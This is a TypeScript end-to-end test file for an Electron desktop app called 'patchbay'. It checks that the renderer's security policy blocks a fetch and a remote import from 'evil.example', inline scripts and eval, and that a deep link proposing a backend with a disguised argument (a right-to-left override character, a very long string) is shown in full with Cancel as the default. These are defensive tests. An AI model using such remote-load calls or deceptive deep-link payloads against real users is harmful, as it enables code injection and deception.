import type { Browser, Page } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CALL_CHANNEL, EVENT_CHANNEL } from '../../electron/desktop/channels.ts';
import { CALL_NAMES } from '../../shared/control/parse.ts';
import { startPlainBackend } from '../backends/plain-http-backend.ts';
import { verifies } from '../requirements/verifies.ts';
import { openSession } from '../support/session.ts';
import { until } from '../support/until.ts';
import { type DesktopApp, startApp } from './app.ts';
import { launchBrowser, openPage, PAGE_ORIGIN } from './page.ts';

/** A browser beside other tests on few cores. */
const PATIENT = { timeout: 60_000 };
const WITHIN_MS = 20_000;

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser.close();
});

const rail = (page: Page) => page.getByRole('navigation', { name: 'Screens' });

async function endpointOf(app: DesktopApp): Promise<string> {
  const { value } = (await app.call('status.snapshot')) as { value: { gateway: { endpoint: string } } };
  return value.gateway.endpoint;
}

describe('the built page over the built preload and main', PATIENT, () => {
  test(
    verifies(
      ['UIX-01', 'UIX-02', 'UIX-05'],
      'runs under the policy on every screen, over one channel each way',
    ),
    async () => {
      await using app = await startApp({ args: ['--demo'] });
      await using window = await openPage(browser, app);
      await rail(window.page).waitFor();
      const screens = [
        'overview',
        'backends',
        'headers',
        'sessions',
        'tools',
        'activity',
        'clients',
        'settings',
      ];
      for (const screen of [...screens, 'welcome', 'backends/+', 'backends/demo', 'backends/demo/edit']) {
        await window.page.evaluate(`window.location.hash = '#/${screen}'`);
        await window.page.getByRole('heading', { level: 1 }).waitFor();
      }
      const { exposed, required, violations } = await window.seen();
      expect({ exposed, required, violations }).toEqual({
        exposed: ['patchbay'],
        required: ['electron'],
        violations: [],
      });
      expect(window.faults).toEqual([]);
      expect(window.strayed).toEqual([]);
      expect(await window.page.evaluate('Object.keys(window.patchbay).join()')).toBe('call,subscribe');
      expect(await window.page.evaluate('typeof window.require + typeof window.process')).toBe(
        'undefinedundefined',
      );
      expect(window.calls.length).toBeGreaterThan(5);
      for (const [channel, args] of window.calls) {
        expect(channel).toBe(CALL_CHANNEL);
        expect(CALL_NAMES).toContain(args[0]);
        expect(args).toHaveLength(2);
      }
    },
  );

  test(verifies(['UIX-05'], 'cannot run, reach or open what is not its own'), async () => {
    await using app = await startApp();
    await using window = await openPage(browser, app);
    await rail(window.page).waitFor();
    const refused = await window.page.evaluate<string[]>(`(async () => {
      const outcome = [];
      const attempt = async (name, action) => {
        try { await action(); outcome.push(name + ' went through'); } catch { outcome.push(name); }
      };
      await attempt('fetch', () => fetch('https://evil.example/'));
      await attempt('own fetch', () => fetch('./index.html'));
      // What a debugger runs may use eval; what the page runs later may not.
      await new Promise((resolve) => setTimeout(resolve, 0));
      await attempt('eval', () => (0, eval)('1'));
      await attempt('import', () => import('https://evil.example/x.js'));
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
      const frame = document.createElement('iframe');
      frame.srcdoc = '<p>x</p>';
      document.body.append(frame);
      outcome.push(window.ran === true ? 'inline script ran' : 'inline script');
      return outcome;
    })()`);
    expect(refused).toEqual(['fetch', 'own fetch', 'eval', 'import', 'inline script']);
    expect((await window.seen()).violations.length).toBeGreaterThanOrEqual(5);
    expect(window.strayed).toEqual([]);
  });

  test(
    verifies(['UIX-01'], 'gets errors as results; what is no data is refused at the preload'),
    async () => {
      await using app = await startApp();
      await using window = await openPage(browser, app);
      await rail(window.page).waitFor();
      const call = (name: string, input: string) =>
        window.page.evaluate(`window.patchbay.call('${name}', ${input})`);
      expect(await call('nothing.there', '{}')).toMatchObject({
        ok: false,
        error: { code: 'control.unknown-call' },
      });
      expect(await call('backends.get', '{ name: 7 }')).toMatchObject({
        ok: false,
        error: { code: 'control.input' },
      });
      expect(await call('backends.get', '{ name: "none" }')).toMatchObject({ ok: false });
      expect(await call('status.snapshot', '{}')).toMatchObject({ ok: true });
    },
  );

  test(
    verifies(['UIX-07', 'B38'], 'adds a backend, sees live what is captured, and comes back from a crash'),
    async () => {
      await using backend = await startPlainBackend({});
      await using app = await startApp({ config: { passthroughHeaders: ['X-Tenant'] } });
      await using window = await openPage(browser, app);
      const { page } = window;
      await rail(page).waitFor();
      await page.evaluate("window.location.hash = '#/backends/+'");
      await page.getByLabel('Paste anything').fill(backend.url);
      await page.getByRole('button', { name: 'Fill the form' }).click();
      await page.getByRole('button', { name: 'Add it' }).click();
      await until(
        async () => JSON.stringify(await app.readConfig()).includes(backend.url),
        'the entry in the file',
        WITHIN_MS,
      );
      const session = await openSession(await endpointOf(app), {
        headers: [['X-Tenant', 'canary-tenant-3c']],
      });
      await until(
        async () => {
          const listed = await session.list('tools');
          return JSON.stringify(listed.message.result).includes('server_');
        },
        'the tools of the backend',
        WITHIN_MS,
      );
      await page.evaluate("window.location.hash = '#/sessions'");
      await page.getByRole('link', { name: /test-client/ }).click();
      await page
        .getByRole('row', { name: /X-Tenant/ })
        .first()
        .waitFor();
      expect(await page.content()).not.toContain('canary-tenant-3c');
      expect(app.events()).toContain('sessions.changed');
      expect(
        app.messages.every(
          (message) =>
            !('happened' in message) || message.happened !== 'sent' || message.channel === EVENT_CHANNEL,
        ),
      ).toBe(true);
      await app.ask('crash', 'crashed');
      await page
        .getByRole('row', { name: /X-Tenant/ })
        .first()
        .waitFor();
      expect((await session.list('tools')).status).toBe(200);
      expect(window.faults).toEqual([]);
    },
  );
});

describe('a deep link', PATIENT, () => {
  const entry = JSON.stringify({
    mcpServers: { files: { command: 'touch', args: ['/nowhere/at/all', 'a\u202Eb', 'y'.repeat(5_000)] } },
  });
  const link = `patchbay://add?config=${encodeURIComponent(entry)}`;

  test(
    verifies(
      ['IMP-02'],
      'of a second instance ends in a screen with its whole text, cancel being the default',
    ),
    async () => {
      await using app = await startApp();
      await using window = await openPage(browser, app);
      const { page } = window;
      await rail(page).waitFor();
      await app.ask('closeWindow');
      const before = await app.readConfig();
      await app.ask('secondInstance', ['/opt/patchbay', '--no-sandbox', link]);
      await page.getByText('A link proposes a backend').waitFor();
      expect((await app.ask('recorded')).isVisible).toBe(true);
      const shown = await page.getByTestId('proposal').innerText();
      expect(shown).toContain('y'.repeat(5_000));
      expect(shown).toContain('U+202E');
      await until(
        async () => (await page.locator(':focus').innerText()) === 'Cancel',
        'the focus on Cancel',
        WITHIN_MS,
      );
      await page.keyboard.press('Enter');
      await until(() => page.url() === `${PAGE_ORIGIN}/#/backends`, 'the list of backends', WITHIN_MS);
      expect(await app.readConfig()).toEqual(before);
      expect(window.calls.filter(([, [name]]) => String(name).startsWith('backends.'))).toEqual([]);
    },
  );

  test(
    verifies(['IMP-02', 'IMP-06'], 'fills a form at most; other links show the window as it was'),
    async () => {
      await using app = await startApp({ args: [link] });
      await using window = await openPage(browser, app);
      const { page } = window;
      await page.getByRole('button', { name: 'Look at it in the form' }).click();
      await page.getByLabel('Command', { exact: true }).waitFor();
      expect(await page.getByLabel('Command', { exact: true }).inputValue()).toBe('touch');
      expect((await app.readConfig()).backends).toBeUndefined();
      const where = page.url();
      const loaded = (await app.ask('recorded')).loaded.length;
      await app.ask('secondInstance', ['/opt/patchbay', 'patchbay://settings?port=1']);
      expect(await app.ask('openUrl', 'patchbay://headers?allow=Authorization')).toBe(true);
      expect((await app.ask('recorded')).loaded).toHaveLength(loaded);
      expect(page.url()).toBe(where);
      expect(await app.ask('openUrl', link)).toBe(true);
      await page.getByText('A link proposes a backend').waitFor();
    },
  );
});
